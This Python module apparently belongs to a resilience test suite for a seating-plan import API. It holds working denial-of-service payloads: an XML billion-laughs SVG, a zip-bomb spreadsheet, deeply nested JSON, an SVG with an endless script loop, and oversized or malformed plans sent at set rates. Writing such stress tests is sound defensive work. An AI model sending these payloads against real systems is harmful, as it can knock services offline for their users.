"""Attacks by files of seating plans that are small to send, or quick to make, and costly to read."""

import io
import zipfile

import msgspec

from siege.attack import attack
from siege.attacker import Attacker

_PATH = "/v1/manage/venues/import"
_MIB = 1 << 20


@attack("5 requests a second of 1 kB")
async def svg_of_a_billion_laughs(attacker: Attacker) -> None:
    """Imports an SVG whose entities expand to a billion words."""
    entities = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    text = f'<!DOCTYPE svg [<!ENTITY l0 "ha">{entities}]><svg><text>&l9;</text></svg>'
    await _import_at_rate(attacker, 5, text.encode())


@attack("1 request a second of 1 MB")
async def spreadsheet_of_zeros(attacker: Attacker) -> None:
    """Imports an XLSX whose sheet unpacks to 1 GB of zeros."""
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            for _ in range(1024):
                sheet.write(bytes(_MIB))
    await _import_at_rate(attacker, 1, content.getvalue())


@attack("1 request every 2 seconds of 32 MB")
async def svg_of_ten_million_nodes(attacker: Attacker) -> None:
    """Imports SVGs of scripts and nodes: eight million of them, and as many as are read."""
    many = b"<svg>" + b"<g/>" * 8_000_000 + b"</svg>"
    circles = b'<circle r="1"/>' * 590_000
    within_bounds = b"<svg><script>while(1){}</script>" + circles + b"</svg>"
    await _import_at_rate(attacker, 0.5, many, within_bounds)


@attack("2 requests a second of 8 MB")
async def plans_with_wild_coordinates(attacker: Attacker) -> None:
    """Imports plans of pretix with 50,000 seats at places such as 1e308, or all at one place."""
    await _import_at_rate(attacker, 2, _plan("1e308"), _plan("0"), _plan("NaN"))


@attack("1 request a second of 32 MB")
async def plans_of_brackets(attacker: Attacker) -> None:
    """Imports 32 MB of brackets, and JSON that is nested as deep as it is long."""
    await _import_at_rate(attacker, 1, b"[" * (32 * _MIB), b'{"zones":' * 3_000_000)


@attack("2 requests a second of 5 MB")
async def tables_of_seats_without_names(attacker: Attacker) -> None:
    """Imports tables with the most seats that are read, none of which has a name or a row."""
    lines = "".join(f"{number % 997},{number // 997}\n" for number in range(240_000))
    await _import_at_rate(attacker, 2, b"x,y\n" + lines.encode())


async def _import_at_rate(attacker: Attacker, per_second: float, *files: bytes) -> None:
    await attacker.begin()

    async def send(number: int) -> None:
        file = files[number % len(files)]
        await attacker.send("POST", _PATH, file, media_type="application/octet-stream")

    await attacker.at_rate(per_second, send)


def _plan(coordinate: str) -> bytes:
    place = {"x": "@", "y": "@"}
    seat = {"seat_number": "1", "seat_guid": "g", "category": "a", "position": place}
    row = {"row_number": "1", "seats": [seat] * 50_000}
    zone = {"name": "Wild", "position": {"x": 0, "y": 0}, "rows": [row]}
    plan = msgspec.json.encode({"name": "Wild", "categories": [], "zones": [zone]})
    return plan.replace(b'"@"', coordinate.encode())
